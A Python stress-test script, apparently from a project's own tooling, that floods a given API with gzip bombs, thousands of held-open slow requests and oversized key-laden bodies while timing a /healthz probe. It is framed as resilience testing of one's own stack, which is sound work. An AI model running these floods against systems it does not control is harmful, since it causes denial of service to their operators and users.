"""Floods of requests, and how long another call waits beside them.

    python -m scripts.attack.floods http://127.0.0.1:8080 [TOKEN]

Point it at a stack of your own. It prints one line for each attack.
"""

from __future__ import annotations

import asyncio
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from scripts.attack.bombs import compressed_request, gzip_bomb, many_keys, request

_PROBE = b"GET /healthz HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"


@dataclass
class Figures:
    """What an attack did. ``answers``: how many by status; 0: none. ``worst``: s, of a probe."""

    name: str
    answers: Counter[int] = field(default_factory=Counter)
    probes: int = 0
    worst: float = 0.0
    seconds: float = 0.0

    def __str__(self) -> str:
        answers = ", ".join(
            f"{status or 'none'}: {n}" for status, n in sorted(self.answers.items())
        )
        return (
            f"{self.name}: {self.seconds:.1f} s; answers {answers};"
            f" /healthz waited {self.worst * 1000:.0f} ms at most ({self.probes} times)"
        )


class Target:
    """The API at a URL without TLS."""

    def __init__(self, url: str) -> None:
        parts = urlsplit(url)
        self.host, self.port = parts.hostname or "127.0.0.1", parts.port or 80

    async def status(self, sent: bytes, patience: float = 120.0) -> int:
        """What one request is answered on a connection of its own; 0: nothing."""
        try:
            async with asyncio.timeout(patience):
                reader, writer = await asyncio.open_connection(self.host, self.port)
                try:
                    writer.write(sent)
                    return int((await reader.readline()).split()[1])
                finally:
                    writer.transport.abort()
        except (OSError, TimeoutError, IndexError):
            return 0

    @asynccontextmanager
    async def probed(self, figures: Figures) -> AsyncIterator[None]:
        """Calls /healthz over and over while the block runs."""

        async def probe() -> None:
            while True:
                started = time.perf_counter()
                await self.status(_PROBE)
                figures.worst = max(figures.worst, time.perf_counter() - started)
                figures.probes += 1
                await asyncio.sleep(0.02)

        probing, started = asyncio.create_task(probe()), time.perf_counter()
        try:
            yield
        finally:
            figures.seconds = time.perf_counter() - started
            probing.cancel()

    async def flood(self, name: str, requests: list[bytes]) -> Figures:
        """All requests at once, each on a connection of its own."""
        figures = Figures(name)
        async with self.probed(figures):
            figures.answers.update(await asyncio.gather(*map(self.status, requests)))
        return figures

    async def hold(self, name: str, begun: bytes, count: int, seconds: float = 5.0) -> Figures:
        """So many connections that send ``begun``, and no more, for some seconds."""
        figures = Figures(name)
        async with self.probed(figures):
            figures.answers.update(
                await asyncio.gather(*(self.status(begun, seconds) for _ in range(count)))
            )
        return figures


def attacks(target: Target, token: str) -> dict[str, Callable[[], Awaitable[Figures]]]:
    """Every attack by name. Without a token, those that need one are left out."""
    bomb = gzip_bomb()

    def bombs(path: str, count: int = 50, token: str = "") -> Callable[[], Awaitable[Figures]]:
        name = f"{count} gzip bombs to {path}{' with a token' if token else ''}"
        made = compressed_request(bomb, path=path, token=token)
        return lambda: target.flood(name, [made] * count)

    def held(size: int, path: str, token: str = "") -> Callable[[], Awaitable[Figures]]:
        made = request(b" " * size, path=path, token=token, length=size + 1)
        return lambda: target.hold(f"2,000 bodies of {size:,} bytes held open", made, 2000)

    def entries(field: str) -> Callable[[], Awaitable[Figures]]:
        made = request(many_keys(field), token=token)
        return lambda: target.flood(f"4 e-mails of 2,000,000 {field}", [made] * 4)

    found = {
        "probe": bombs("/healthz"),
        "nothing": bombs("/nothing"),
        "stranger": bombs("/emails"),
        "sign-in": bombs("/tokens"),
        "credentials": held(4000, "/tokens"),
        "headers": lambda: target.hold("2,000 headers held open", _PROBE[:-2], 2000),
    }
    if token:
        found |= {
            "client": bombs("/emails", token=token),
            "bodies": held(65_000, "/emails", token),
            "metadata": entries("metadata"),
            "own headers": entries("headers"),
        }
    return found


async def main(url: str, token: str = "") -> None:
    for attack in attacks(Target(url), token).values():
        print(await attack(), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:3]))
